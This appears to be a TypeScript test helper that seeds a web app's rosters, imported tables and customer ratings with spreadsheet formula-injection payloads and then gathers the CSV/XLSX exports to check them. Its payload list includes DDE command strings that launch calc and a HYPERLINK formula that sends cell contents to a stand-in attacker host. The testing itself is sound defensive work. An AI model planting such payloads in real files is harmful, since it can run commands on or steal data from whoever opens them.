import type { Roster } from '@hailong/schema/roster';
import type { TablePreview } from '@hailong/schema/table-import';
import { anOfficeWithWork } from './an-office-with-work.ts';
import type { Ask, Reply } from './asker.ts';
import { MONTH } from './every-write.ts';
import { addressOf, MATRIX } from './role-matrix.ts';
import { aSampleRating, FIRST_OFFICER, sendRatings } from './send-ratings.ts';

const FORMULAS = [
  '=cmd|"/c calc"!A1',
  '+cmd|"/c calc"!A1',
  '-2+3+cmd|"/c calc"!A1',
  '@SUM(cmd)',
  '\t=cmd',
  '\r\n=cmd',
  ' \uFEFF=cmd',
  '\u00A0＝cmd',
  '＋cmd',
  '－cmd',
  '＠cmd',
  'tốt;=cmd',
  'tốt\t=cmd',
  'tốt\n=cmd',
  '"=cmd"',
  '=HYPERLINK("http://evil.example?x="&A1,"cmd")',
];
const [formula = ''] = FORMULAS;

const FILES = Object.keys(MATRIX)
  .filter((row) => /^GET .*\.(?:csv|xlsx)$/.test(row))
  .map((row) => addressOf(row).url);

/** The mark of a planted formula, wherever it went. */
export const PLANTED = 'cmd';

const succeeds = async (reply: Reply): Promise<void> => {
  const { statusCode, body } = await reply;
  if (statusCode >= 300) throw new Error(body);
};

const plantByAdministrator = async (ask: Ask): Promise<void> => {
  const { entries } = (await ask('GET', '/roster')).json<Roster>();
  const entry = entries.find(({ id }) => id === FIRST_OFFICER);
  const changed = { ...entry, name: formula, position: formula, code: formula, fields: [formula] };
  await succeeds(ask('PUT', `/roster/entries/${FIRST_OFFICER}`, changed));
  const cell = `"${formula.replaceAll('"', '""')}"`;
  const file = Buffer.from(`field;code;name\n${cell};9.1;${cell}`);
  const query = 'name=a.csv&missing=keep';
  const { fingerprint } = (await ask('POST', `/tables/procedures/preview?${query}`, file)).json<TablePreview>();
  await succeeds(ask('POST', `/tables/procedures/import?${query}&fingerprint=${fingerprint}`, file));
  await succeeds(ask('PUT', '/procedures/fields', { field: formula, offered: false }));
};

export interface Exported {
  readonly path: string;
  readonly statusCode: number;
  readonly bytes: Buffer;
}

/** Every table that anybody can take away, with a formula in each field that anybody may write. */
export const exportsOfPlantedFormulas = async (): Promise<readonly Exported[]> => {
  const { app, askers } = await anOfficeWithWork();
  await plantByAdministrator(askers.administrator);
  const written = FORMULAS.map((text) =>
    aSampleRating({ comment: text, customerName: text, procedure: { name: text }, language: text.slice(0, 35) }),
  );
  await sendRatings(app, written);
  const exported: Exported[] = [];
  for (const path of [...FILES, `/api/offices/van-gia/months/${MONTH}/ratings.csv?names=1`]) {
    const ask = path.includes('/tables/') ? askers.administrator : askers.statistician;
    const { statusCode, rawPayload: bytes } = await ask('GET', path);
    exported.push({ path, statusCode, bytes });
  }
  return exported;
};
